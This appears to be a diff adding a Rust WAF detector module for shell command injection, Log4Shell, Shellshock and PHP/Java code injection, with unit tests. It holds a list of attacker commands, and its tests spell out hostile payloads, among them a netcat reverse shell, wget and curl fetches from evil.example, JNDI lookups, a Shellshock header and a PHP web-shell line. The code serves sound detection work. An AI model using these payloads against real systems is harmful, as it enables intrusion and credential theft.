@@ -1,0 +1,715 @@
+//! Remote command and code injection (rules 100800–100803), in the spirit of CRS's PL1 rules
+//! 932230–932260 (Unix and Windows command injection), 944150 (Log4Shell), 932170/932171
+//! (Shellshock) and 933100/933140 (PHP code and stream wrappers).
+//!
+//! Rule 100800 looks in the injection targets (arguments and their names, cookies, `User-Agent`,
+//! `Referer`, XML text and attributes), after one more percent-decoding pass and CRS's
+//! `t:cmdLine` evasion folding (`\ ' " ^` removed, `${IFS}` read as a space, lower case), for a
+//! shell separator or substitution (`;` `|` `&` `` ` `` `$(` a line break) followed by a known
+//! command. What must follow the command depends on how rarely its name is an everyday word:
+//! `whoami`, `uname` or `wget` need only to end there; words such as `cat`, `id` or `ping` need a
+//! shell-looking argument (`-la`, `/etc/passwd`, `~/`, `$HOME`, a redirection) or, after a pipe,
+//! `&&`, a backquote or `$(`, the end of the value; interpreters (`python`, `perl`, `php`) need an
+//! option. So `Tom & Jerry`, `Java; PHP; Python` or `Contact | ID` pass.
+//!
+//! Rule 100801 looks for a Log4j lookup (`${jndi:`, `${ctx:`, or a lookup nested in one within a
+//! few bytes, the way obfuscated payloads hide `jndi`) in every header value, the path and the
+//! injection targets. Rule 100802 looks for a Shellshock function definition (`() {`) at the
+//! start of a header value or an argument. Rule 100803 looks for PHP code (`<?php`, `<?=`), PHP
+//! and other stream wrappers (`php://filter`, `expect://`, `phar://`) and Java runtime calls
+//! (`java.lang.Runtime`) in the injection targets.
+
+use std::borrow::Cow;
+
+use aho_corasick::AhoCorasick;
+
+use super::targets::{injection_targets, push_once};
+use super::transform::{apply, url_decode_uni};
+use super::{Deadline, Detector, Finding, OutOfTime, Severity};
+use crate::decode::percent_decode;
+use crate::parse::{Inputs, Source};
+use crate::request::Request;
+
+/// Rule id: a shell separator followed by a known Unix or Windows command.
+pub const COMMAND_INJECTION: u32 = 100800;
+/// Rule id: a Log4j JNDI lookup (Log4Shell, CVE-2021-44228).
+pub const LOG4J_LOOKUP: u32 = 100801;
+/// Rule id: a Shellshock function definition (CVE-2014-6271).
+pub const SHELLSHOCK: u32 = 100802;
+/// Rule id: PHP code, a code-running stream wrapper or a Java runtime call.
+pub const CODE_INJECTION: u32 = 100803;
+
+const MSG_COMMAND: &str = "Remote command execution: shell command injection";
+const MSG_LOG4J: &str = "Remote command execution: Log4j JNDI lookup (Log4Shell)";
+const MSG_SHELLSHOCK: &str = "Remote command execution: Shellshock function definition";
+const MSG_CODE: &str = "Code injection: PHP code, stream wrapper or Java runtime call";
+
+/// How much of a shell-looking context a command name needs to count.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Strength {
+    /// Rarely an everyday word (`whoami`, `wget`): its name ending there is enough.
+    Strong,
+    /// Also an everyday word (`cat`, `id`, `type`): needs a shell-looking argument, or the end
+    /// of the value after a pipe, `&&`, `||`, a backquote or `$(`.
+    Weak,
+    /// Like [`Strength::Weak`], and also takes a number (`sleep 5`, `ping 10.0.0.1`).
+    Numeric,
+    /// A script interpreter (`python`, `perl`): needs an option (`-c`, `-e`), or the end of the
+    /// value after a backquote or `$(`.
+    Interpreter,
+}
+
+/// Commands attackers run first (reconnaissance, download, reverse shells), lower case.
+const COMMANDS: &[(&str, Strength)] = &[
+    ("bash", Strength::Strong),
+    ("base64", Strength::Weak),
+    ("bitsadmin", Strength::Strong),
+    ("busybox", Strength::Strong),
+    ("cat", Strength::Weak),
+    ("certutil", Strength::Strong),
+    ("chmod", Strength::Strong),
+    ("chown", Strength::Strong),
+    ("cmd", Strength::Weak),
+    ("cmd.exe", Strength::Strong),
+    ("curl", Strength::Strong),
+    ("dash", Strength::Weak),
+    ("dir", Strength::Weak),
+    ("echo", Strength::Weak),
+    ("env", Strength::Weak),
+    ("find", Strength::Weak),
+    ("head", Strength::Weak),
+    ("hostname", Strength::Weak),
+    ("id", Strength::Weak),
+    ("ifconfig", Strength::Strong),
+    ("ipconfig", Strength::Strong),
+    ("kill", Strength::Numeric),
+    ("ksh", Strength::Strong),
+    ("less", Strength::Weak),
+    ("ls", Strength::Weak),
+    ("lua", Strength::Interpreter),
+    ("more", Strength::Weak),
+    ("nc", Strength::Numeric),
+    ("ncat", Strength::Strong),
+    ("net", Strength::Weak),
+    ("netcat", Strength::Strong),
+    ("netstat", Strength::Strong),
+    ("node", Strength::Interpreter),
+    ("nslookup", Strength::Strong),
+    ("passwd", Strength::Weak),
+    ("perl", Strength::Interpreter),
+    ("php", Strength::Interpreter),
+    ("ping", Strength::Numeric),
+    ("powershell", Strength::Strong),
+    ("powershell.exe", Strength::Strong),
+    ("ps", Strength::Weak),
+    ("pwd", Strength::Weak),
+    ("pwsh", Strength::Strong),
+    ("python", Strength::Interpreter),
+    ("python2", Strength::Interpreter),
+    ("python3", Strength::Interpreter),
+    ("reg", Strength::Weak),
+    ("rm", Strength::Weak),
+    ("ruby", Strength::Interpreter),
+    ("sh", Strength::Weak),
+    ("sleep", Strength::Numeric),
+    ("systeminfo", Strength::Strong),
+    ("tail", Strength::Weak),
+    ("tasklist", Strength::Strong),
+    ("telnet", Strength::Strong),
+    ("tftp", Strength::Strong),
+    ("touch", Strength::Weak),
+    ("type", Strength::Weak),
+    ("uname", Strength::Strong),
+    ("wget", Strength::Strong),
+    ("whoami", Strength::Strong),
+    ("wmic", Strength::Strong),
+    ("xterm", Strength::Strong),
+    ("zsh", Strength::Strong),
+];
+
+/// Literals of rule 100803, matched case-insensitively.
+const CODE_LITERALS: &[&str] = &[
+    "<?php",
+    "<?=",
+    "php://filter",
+    "php://input",
+    "php://stdin",
+    "php://memory",
+    "php://temp",
+    "php://fd",
+    "expect://",
+    "phar://",
+    "java.lang.runtime",
+    "java.lang.processbuilder",
+    "getruntime().exec(",
+];
+
+/// How a command position was reached.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Separator {
+    /// `;`, a single `&` or a line break: also everyday punctuation.
+    Loose,
+    /// A brace expansion's `{` (`{cat,/etc/passwd}`): the command must be followed by `,`.
+    Brace,
+    /// A pipe, `&&` or `||`: rarely between everyday words.
+    Pipe,
+    /// A backquote or `$(`: command substitution.
+    Substitution,
+}
+
+/// The command and code injection detector.
+pub struct CommandInjection {
+    code: AhoCorasick,
+}
+
+impl CommandInjection {
+    /// Builds the detector and its literal automaton.
+    pub fn new() -> CommandInjection {
+        let code = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(CODE_LITERALS)
+            .expect("code literals are a small literal set");
+        CommandInjection { code }
+    }
+
+    /// Checks one injection target's value, pushing what it finds.
+    /// One pass over the bytes ([`classes`]) decides which checks can find anything; most
+    /// values (words, numbers, prices) need none.
+    fn inspect_value(&self, value: &[u8], variable: &dyn Fn() -> String, out: &mut Vec<Finding>) {
+        let mut seen = classes(value);
+        if seen == 0 {
+            return;
+        }
+        let decoded = if seen & PERCENT != 0 {
+            let decoded = apply(Cow::Borrowed(value), url_decode_uni);
+            if let Cow::Owned(d) = &decoded {
+                seen = classes(d);
+            }
+            decoded
+        } else {
+            Cow::Borrowed(value)
+        };
+        if seen & SEPARATOR != 0 {
+            let folded = fold_command_line(&decoded);
+            if let Some(cmd) = find_command(&folded) {
+                out.push(finding(
+                    COMMAND_INJECTION,
+                    MSG_COMMAND,
+                    variable(),
+                    &format!("{cmd}: "),
+                    &decoded,
+                ));
+            }
+        }
+        if seen & DOLLAR != 0 && has_log4j_lookup(&decoded) {
+            out.push(finding(LOG4J_LOOKUP, MSG_LOG4J, variable(), "", &decoded));
+        }
+        if seen & CODE != 0 && is_shellshock(&decoded) {
+            out.push(finding(
+                SHELLSHOCK,
+                MSG_SHELLSHOCK,
+                variable(),
+                "",
+                &decoded,
+            ));
+        }
+        if seen & CODE != 0 && self.code.is_match(&*decoded) {
+            out.push(finding(CODE_INJECTION, MSG_CODE, variable(), "", &decoded));
+        }
+    }
+}
+
+impl Default for CommandInjection {
+    fn default() -> Self {
+        CommandInjection::new()
+    }
+}
+
+impl Detector for CommandInjection {
+    fn inspect(
+        &self,
+        req: &Request<'_>,
+        inputs: &Inputs<'_>,
+        deadline: &Deadline,
+        out: &mut Vec<Finding>,
+    ) -> Result<(), OutOfTime> {
+        let from = out.len();
+        let mut found = Vec::new();
+        for target in injection_targets(inputs) {
+            deadline.check()?;
+            self.inspect_value(target.value, &|| target.variable(), &mut found);
+            for f in found.drain(..) {
+                push_once(out, from, f);
+            }
+        }
+        // Log4Shell and Shellshock payloads ride in any header (`X-Api-Version`, `Cookie` …).
+        for field in inputs.fields.iter().filter(|f| f.source == Source::Header) {
+            deadline.check()?;
+            let variable = || field.variable();
+            if has_log4j_lookup(&field.value) {
+                push_once(
+                    out,
+                    from,
+                    finding(LOG4J_LOOKUP, MSG_LOG4J, variable(), "", &field.value),
+                );
+            }
+            if is_shellshock(&field.value) {
+                push_once(
+                    out,
+                    from,
+                    finding(SHELLSHOCK, MSG_SHELLSHOCK, variable(), "", &field.value),
+                );
+            }
+        }
+        deadline.check()?;
+        let path = percent_decode(req.path(), false);
+        if has_log4j_lookup(&path) {
+            out.push(finding(
+                LOG4J_LOOKUP,
+                MSG_LOG4J,
+                "REQUEST_FILENAME".into(),
+                "",
+                &path,
+            ));
+        }
+        Ok(())
+    }
+}
+
+fn finding(rule_id: u32, msg: &'static str, variable: String, what: &str, value: &[u8]) -> Finding {
+    let mut f = Finding::new(rule_id, msg, Severity::Critical, variable, value);
+    if !what.is_empty() {
+        f.data.insert_str(0, what);
+    }
+    f
+}
+
+/// Byte class: a shell separator or substitution byte (`; | & ` $ {` and line breaks).
+const SEPARATOR: u8 = 1;
+/// Byte class: `$`, which every Log4j lookup starts with.
+const DOLLAR: u8 = 2;
+/// Byte class: `<`, `:` or `(`: PHP tags, stream wrappers and Shellshock hold one, and a Java
+/// runtime call its parentheses.
+const CODE: u8 = 4;
+/// Byte class: `%`, the start of an encoding.
+const PERCENT: u8 = 8;
+
+/// The classes of every byte.
+const CLASS_OF: [u8; 256] = {
+    let mut t = [0u8; 256];
+    let separators = b";|&`{\n\r";
+    let mut i = 0;
+    while i < separators.len() {
+        t[separators[i] as usize] = SEPARATOR;
+        i += 1;
+    }
+    t[b'$' as usize] = SEPARATOR | DOLLAR;
+    t[b'<' as usize] = CODE;
+    t[b':' as usize] = CODE;
+    t[b'(' as usize] = CODE;
+    t[b'%' as usize] = PERCENT;
+    t
+};
+
+/// The classes of the bytes `value` holds, OR-ed.
+fn classes(value: &[u8]) -> u8 {
+    value.iter().fold(0, |seen, &b| seen | CLASS_OF[b as usize])
+}
+
+/// CRS's `t:cmdLine`, as far as the command search needs it: `\ ' " ^` removed (`w'h'o'am'i`,
+/// `c\at`), `${IFS}` and `$IFS` read as a space, `$@` and `$*` removed, ASCII lower case.
+fn fold_command_line(value: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(value.len());
+    let mut i = 0;
+    while i < value.len() {
+        let b = value[i];
+        let rest = &value[i..];
+        if b == b'$' {
+            if starts_with_ignore_case(rest, b"${ifs}") {
+                out.push(b' ');
+                i += 6;
+                continue;
+            }
+            if starts_with_ignore_case(rest, b"$ifs") {
+                out.push(b' ');
+                i += 4;
+                continue;
+            }
+            if matches!(rest.get(1), Some(b'@' | b'*')) {
+                i += 2;
+                continue;
+            }
+        }
+        if !matches!(b, b'\\' | b'\'' | b'"' | b'^') {
+            out.push(b.to_ascii_lowercase());
+        }
+        i += 1;
+    }
+    out
+}
+
+fn starts_with_ignore_case(value: &[u8], prefix: &[u8]) -> bool {
+    value
+        .get(..prefix.len())
+        .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
+}
+
+/// The first known command found at a command position of `folded` (see the module
+/// documentation), with what must follow it.
+fn find_command(folded: &[u8]) -> Option<&'static str> {
+    let mut i = 0;
+    while i < folded.len() {
+        let (separator, after) = match (folded[i], folded.get(i + 1)) {
+            (b'|', Some(b'|')) | (b'&', Some(b'&')) => (Separator::Pipe, i + 2),
+            (b'|', _) => (Separator::Pipe, i + 1),
+            (b'`', _) => (Separator::Substitution, i + 1),
+            (b'$', Some(b'(')) => (Separator::Substitution, i + 2),
+            (b'{', _) => (Separator::Brace, i + 1),
+            (b';' | b'&' | b'\n' | b'\r', _) => (Separator::Loose, i + 1),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        // `name|id|email` is a list of fields, not a pipeline: a pipe between plain words does
+        // not make a weak command's end count.
+        let separator = match separator {
+            Separator::Pipe if is_word_list(folded) => Separator::Loose,
+            other => other,
+        };
+        if let Some(cmd) = command_at(folded, after, separator) {
+            return Some(cmd);
+        }
+        i = after;
+    }
+    None
+}
+
+/// The command starting at `at` (after blanks, an opening `(` or `{`, and a directory such as
+/// `/bin/`), when what follows it fits its [`Strength`].
+fn command_at(s: &[u8], at: usize, separator: Separator) -> Option<&'static str> {
+    let mut i = skip(s, at, |b| matches!(b, b' ' | b'\t' | b'(' | b'{'));
+    // A directory before the name (`/bin/sh`, `/usr/bin/id`).
+    if s.get(i) == Some(&b'/') {
+        let dir_end = s[i..]
+            .iter()
+            .take_while(|&&b| b == b'/' || b.is_ascii_alphanumeric() || b == b'.')
+            .count();
+        let name_start = s[i..i + dir_end].iter().rposition(|&b| b == b'/')? + i + 1;
+        i = name_start;
+    }
+    let word_len = s[i..]
+        .iter()
+        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
+        .count();
+    let word = std::str::from_utf8(&s[i..i + word_len]).ok()?;
+    let &(name, strength) = COMMANDS.iter().find(|(c, _)| *c == word)?;
+    let tail = &s[i + word_len..];
+    if separator == Separator::Brace {
+        return (tail.first() == Some(&b',')).then_some(name);
+    }
+    let ends = ends_command(tail);
+    let ok = match strength {
+        Strength::Strong => ends || tail.first().is_some_and(|&b| b == b' ' || b == b'\t'),
+        Strength::Weak => shell_argument(tail) || (ends && separator != Separator::Loose),
+        Strength::Numeric => {
+            shell_argument(tail)
+                || numeric_argument(tail)
+                || (ends && separator != Separator::Loose)
+        }
+        Strength::Interpreter => {
+            option_argument(tail) || (ends && separator == Separator::Substitution)
+        }
+    };
+    ok.then_some(name)
+}
+
+/// The first index from `at` whose byte `skip_byte` rejects.
+fn skip(s: &[u8], at: usize, skip_byte: impl Fn(u8) -> bool) -> usize {
+    at + s
+        .get(at..)
+        .map_or(0, |rest| rest.iter().take_while(|&&b| skip_byte(b)).count())
+}
+
+/// True when a command ends here: the end of the value or a shell operator, after blanks.
+fn ends_command(tail: &[u8]) -> bool {
+    let i = skip(tail, 0, |b| b == b' ' || b == b'\t');
+    matches!(
+        tail.get(i),
+        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'<' | b'>' | b'\n' | b'\r' | b',')
+    )
+}
+
+/// True when blanks and then a shell-looking argument follow: an option (`-la`), a path (`/etc`,
+/// `~/`, `./`, `../`, `c:\`), a variable (`$HOME`) or a redirection.
+fn shell_argument(tail: &[u8]) -> bool {
+    let i = skip(tail, 0, |b| b == b' ' || b == b'\t');
+    if i == 0 {
+        return matches!(tail.first(), Some(b'<' | b'>'));
+    }
+    let arg = &tail[i..];
+    match arg.first() {
+        Some(b'-') => arg.get(1).is_some_and(|b| b.is_ascii_alphanumeric()),
+        Some(b'/' | b'~' | b'$' | b'<' | b'>') => true,
+        Some(b'.') => arg.starts_with(b"./") || arg.starts_with(b"../"),
+        // A drive (`c:\windows`, read `c:windows` once `\` is removed).
+        Some(b) if b.is_ascii_alphabetic() => {
+            arg.get(1) == Some(&b':')
+                && arg
+                    .get(2)
+                    .is_some_and(|&b| b == b'/' || b.is_ascii_alphanumeric())
+        }
+        _ => false,
+    }
+}
+
+/// True when blanks and then a number follow: an address with dots (`10.0.0.1`, then anything),
+/// or digits that end the command (`sleep 5`, not `sleep 8 hours`).
+fn numeric_argument(tail: &[u8]) -> bool {
+    let i = skip(tail, 0, |b| b == b' ' || b == b'\t');
+    let len = tail[i..]
+        .iter()
+        .take_while(|&&b| b.is_ascii_digit() || b == b'.')
+        .count();
+    if i == 0 || len == 0 || !tail[i].is_ascii_digit() {
+        return false;
+    }
+    tail[i..i + len].contains(&b'.') || ends_command(&tail[i + len..])
+}
+
+/// True when `value` is plain words joined by pipes (`name|id|email`, `rock | pop`), a word
+/// first.
+fn is_word_list(value: &[u8]) -> bool {
+    value.first().is_some_and(|b| b.is_ascii_alphanumeric())
+        && value
+            .iter()
+            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'|' | b' ' | b'_' | b'-'))
+}
+
+/// True when blanks and then an option (`-c`, `-e`, `-r`) follow.
+fn option_argument(tail: &[u8]) -> bool {
+    let i = skip(tail, 0, |b| b == b' ' || b == b'\t');
+    i > 0 && tail.get(i) == Some(&b'-') && tail.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic())
+}
+
+/// True when `value` holds a Log4j lookup: `${` followed by `jndi:` or `ctx:` (any case), or by
+/// another `${` within 15 bytes without a `}` (a nested lookup hiding the name, as in
+/// `${${lower:j}ndi:…}`), like CRS 944150.
+fn has_log4j_lookup(value: &[u8]) -> bool {
+    let mut i = 0;
+    while let Some(found) = value
+        .get(i..)
+        .and_then(|rest| memchr::memmem::find(rest, b"${"))
+    {
+        let after = &value[i + found + 2..];
+        if starts_with_ignore_case(after, b"jndi:") || starts_with_ignore_case(after, b"ctx:") {
+            return true;
+        }
+        let window = &after[..after.len().min(15)];
+        let until_close = window
+            .iter()
+            .position(|&b| b == b'}')
+            .unwrap_or(window.len());
+        if memchr::memmem::find(&window[..until_close], b"${").is_some() {
+            return true;
+        }
+        i += found + 2;
+    }
+    false
+}
+
+/// True when `value` starts (after blanks) with a function definition `() {`, like CRS
+/// 932170/932171.
+fn is_shellshock(value: &[u8]) -> bool {
+    let i = skip(value, 0, |b| b == b' ' || b == b'\t');
+    let Some(rest) = value.get(i..).and_then(|r| r.strip_prefix(b"(")) else {
+        return false;
+    };
+    let j = skip(rest, 0, |b| b == b' ' || b == b'\t');
+    let Some(rest) = rest.get(j..).and_then(|r| r.strip_prefix(b")")) else {
+        return false;
+    };
+    let k = skip(rest, 0, |b| b == b' ' || b == b'\t');
+    k > 0 && rest.get(k) == Some(&b'{')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::testing::{benign_headers, benign_values, inspect_get, inspect_query_value};
+
+    fn rules(found: &[Finding]) -> Vec<u32> {
+        found.iter().map(|f| f.rule_id).collect()
+    }
+
+    fn fires(value: &str) -> Vec<u32> {
+        rules(&inspect_query_value(
+            &CommandInjection::new(),
+            value.as_bytes(),
+        ))
+    }
+
+    #[test]
+    fn shell_command_injections_fire() {
+        for v in [
+            ";cat /etc/passwd",
+            "|id",
+            "$(whoami)",
+            "`id`",
+            ";ls -la",
+            "127.0.0.1;uname -a",
+            "127.0.0.1 && whoami",
+            "; nc -e /bin/sh 10.0.0.1 4444",
+            "x|wget http://evil.example/x.sh",
+            "a%0acat%20/etc/passwd",
+            "1;w'h'o'a'm'i",
+            "1;c\\at /etc/passwd",
+            ";cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "| /bin/bash -i",
+            "$(/usr/bin/id)",
+            "& ping -n 3 127.0.0.1",
+            "|| curl evil.example",
+            "& type C:\\windows\\win.ini",
+            "| powershell -enc SQBFAFgA",
+            "; python -c 'import os'",
+            "`perl -e 'print 1'`",
+            "a;sleep 5;",
+            "x; echo $PATH",
+            "; ping 8.8.8.8",
+            "| nc 10.0.0.1 4444",
+            "8.8.8.8|id",
+            "; kill -9 1",
+        ] {
+            assert_eq!(fires(v), [COMMAND_INJECTION], "missed {v:?}");
+        }
+    }
+
+    #[test]
+    fn everyday_text_with_separators_passes() {
+        for v in [
+            "Tom & Jerry",
+            "dog & cat",
+            "salt & pepper; id",
+            "Skills: Java; PHP; Python; Perl",
+            "Contact Us | ACME",
+            "rock | pop | jazz",
+            "R&D; sleep study",
+            "AT&T",
+            "Black & White | type A",
+            "Echo Dot & Kindle",
+            "ls",
+            "whoami",
+            "price $(USD) 20",
+            "ping pong; ping",
+            "cats & dogs; cat lovers welcome",
+            "Q&A: how do I find my id?",
+            "2 > 1 && 3 > 2",
+            "line one\nid card\nsh",
+            "node; python",
+            "net income; net loss",
+            "template ${name} and ${count}",
+            "name|id|email",
+            "email|id",
+            "Name: John; ID 12345",
+            "Relax; sleep 8 hours a night",
+            "Charlotte; NC",
+            "more & less - a story",
+            "https://shop.example.com/p?id=5&type=/home&cat=2",
+            "{\"a\": {\"cat\": 1}}",
+            "{cat}",
+            "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
+        ] {
+            assert!(
+                fires(v).is_empty(),
+                "false positive on {v:?}: {:?}",
+                fires(v)
+            );
+        }
+        let fired: Vec<_> = benign_values()
+            .iter()
+            .filter(|v| !fires(v).is_empty())
+            .collect();
+        assert!(fired.is_empty(), "false positives: {fired:?}");
+    }
+
+    #[test]
+    fn log4j_lookups_fire_in_any_header_the_path_and_arguments() {
+        let d = CommandInjection::new();
+        for header in [
+            &b"${jndi:ldap://evil.example/a}"[..],
+            b"${${lower:j}ndi:ldap://x/a}",
+            b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+            b"${JNDI:dns://x}",
+            b"${ctx:loginId}",
+        ] {
+            let found = inspect_get(&d, b"/", &[(b"X-Api-Version", header)]);
+            assert_eq!(rules(&found), [LOG4J_LOOKUP], "{header:?}");
+            assert_eq!(found[0].variable, "REQUEST_HEADERS:X-Api-Version");
+        }
+        assert_eq!(
+            rules(&inspect_get(&d, b"/%24%7Bjndi:ldap://x/a%7D", &[])),
+            [LOG4J_LOOKUP]
+        );
+        assert_eq!(fires("${jndi:ldap://evil.example/a}"), [LOG4J_LOOKUP]);
+        assert!(fires("cost: ${price} for ${qty} items").is_empty());
+    }
+
+    #[test]
+    fn shellshock_fires_in_headers_and_arguments() {
+        let d = CommandInjection::new();
+        let found = inspect_get(
+            &d,
+            b"/cgi-bin/status",
+            &[(b"User-Agent", b"() { :; }; /bin/bash -c 'id'")],
+        );
+        assert!(rules(&found).contains(&SHELLSHOCK), "{found:?}");
+        assert!(fires("() { ignored; }; echo vulnerable").contains(&SHELLSHOCK));
+        assert!(fires("(a) {b}").is_empty());
+        assert!(fires("() {").contains(&SHELLSHOCK));
+    }
+
+    #[test]
+    fn code_injection_fires() {
+        for v in [
+            "<?php system($_GET['c']); ?>",
+            "<?= `id` ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "PHP://input",
+            "expect://id",
+            "phar://uploads/x.jpg",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        ] {
+            assert!(fires(v).contains(&CODE_INJECTION), "missed {v:?}");
+        }
+        for v in [
+            "<?xml version=\"1.0\"?>",
+            "see php.net docs",
+            "Java runtime 21",
+        ] {
+            assert!(fires(v).is_empty(), "false positive on {v:?}");
+        }
+    }
+
+    #[test]
+    fn benign_headers_do_not_fire() {
+        for (name, value) in benign_headers() {
+            let found = inspect_get(
+                &CommandInjection::new(),
+                b"/",
+                &[(name.as_bytes(), value.as_bytes())],
+            );
+            assert!(found.is_empty(), "false positive on {value:?}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn values_without_separators_skip_the_command_search() {
+        for v in [&b"whoami"[..], b"cat /etc/passwd", b"ls -la", b""] {
+            assert_eq!(classes(v) & SEPARATOR, 0, "{v:?}");
+        }
+        for v in [&b"a;b"[..], b"a|b", b"a&b", b"`", b"$(", b"a\nb"] {
+            assert_ne!(classes(v) & SEPARATOR, 0, "{v:?}");
+        }
+    }
+}
